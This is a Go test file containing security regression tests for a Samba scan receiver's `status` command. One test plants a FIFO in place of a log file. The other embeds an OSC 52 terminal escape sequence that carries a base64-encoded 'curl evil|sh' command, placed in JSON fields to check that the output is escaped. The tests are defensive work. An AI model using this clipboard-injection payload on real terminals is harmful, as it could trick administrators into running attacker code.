package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/scanwarden/scanwarden/receiver/samba"
)

// TestAttackStatusReadsDaemonFiles: `receiver status` (run by the admin,
// often as root) probes the share and reads smbd's log to say why a logon
// failed — the log's folder taken from receiver.json, which the daemon
// writes. The daemon could name a folder of its own whose log/log.smbd is a
// FIFO: the command blocked for ever in open. Now the log is opened
// without waiting or following a link, and only a regular file is read.
func TestAttackStatusReadsDaemonFiles(t *testing.T) {
	isolate(t)
	if err := samba.FullAuditModule(context.Background(), ""); err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	rx := filepath.Join(data, "receiver")
	evil := filepath.Join(dir, "evil")
	os.MkdirAll(filepath.Join(evil, "log"), 0o755)
	os.MkdirAll(rx, 0o700)
	pw := filepath.Join(dir, "pw")
	os.WriteFile(pw, []byte("Mfp.Pw-1\n"), 0o600)
	port := freePortCLI(t) // nothing listens: the logon fails, the log is read
	info, _ := json.Marshal(map[string]any{"listen": "127.0.0.1", "port": port, "share": "scans", "account": "mfp",
		"smbd_dir": evil, "external": true})
	os.WriteFile(filepath.Join(rx, "receiver.json"), info, 0o644)
	logFile := filepath.Join(evil, "log", "log.smbd")

	if err := syscall.Mkfifo(logFile, 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan result, 1)
	go func() {
		var out, errb bytes.Buffer
		code := run(context.Background(), []string{"receiver", "status", "--data-dir", data, "--password-file", pw}, strings.NewReader(""), &out, &errb)
		done <- result{code, out.String(), errb.String()}
	}()
	select {
	case r := <-done:
		if !strings.Contains(r.stdout, "nothing listens") {
			t.Errorf("receiver status: exit %d\n%s%s", r.code, r.stdout, r.stderr)
		}
	case <-time.After(15 * time.Second):
		// let the blocked open go (a writer ends its wait)
		if f, err := os.OpenFile(logFile, os.O_WRONLY, 0); err == nil {
			f.Close()
		}
		t.Errorf("receiver status blocked opening smbd's log (a FIFO the daemon planted)")
		<-done
	}
}

// freePortCLI is a loopback port nothing listens on (just closed).
func freePortCLI(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// TestAttackStatusPrintsDaemonText: `receiver status` prints what the
// daemon wrote in receiver.json — the share's address and name, its
// allowlist and warnings, its last probe — and printed them raw to the
// admin's (root's) terminal: control sequences the daemon's user put there
// reached it. Now every such string is printed with them escaped.
func TestAttackStatusPrintsDaemonText(t *testing.T) {
	isolate(t)
	data := filepath.Join(t.TempDir(), "data")
	rx := filepath.Join(data, "receiver")
	os.MkdirAll(rx, 0o700)
	const esc = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	info, _ := json.Marshal(map[string]any{"listen": "127.0.0.1" + esc, "port": 445, "share": "scans" + esc, "account": "mfp",
		"allow": []string{"10.0.0.1/32" + esc}, "allow_warning": "warning" + esc, "ingest_stopped": "stopped" + esc,
		"share_check": map[string]any{"cause": "ok", "detail": "fine" + esc, "fix": "none" + esc, "at": time.Now()}})
	os.WriteFile(filepath.Join(rx, "receiver.json"), info, 0o644)
	var out, errb bytes.Buffer
	run(context.Background(), []string{"receiver", "status", "--data-dir", data}, strings.NewReader(""), &out, &errb)
	if !strings.Contains(out.String(), "stopped") {
		t.Fatalf("receiver status did not read receiver.json:\n%s%s", out.String(), errb.String())
	}
	if strings.ContainsAny(out.String()+errb.String(), "\x1b\x07") {
		t.Errorf("control characters from receiver.json reached the terminal: %q", out.String())
	}
}
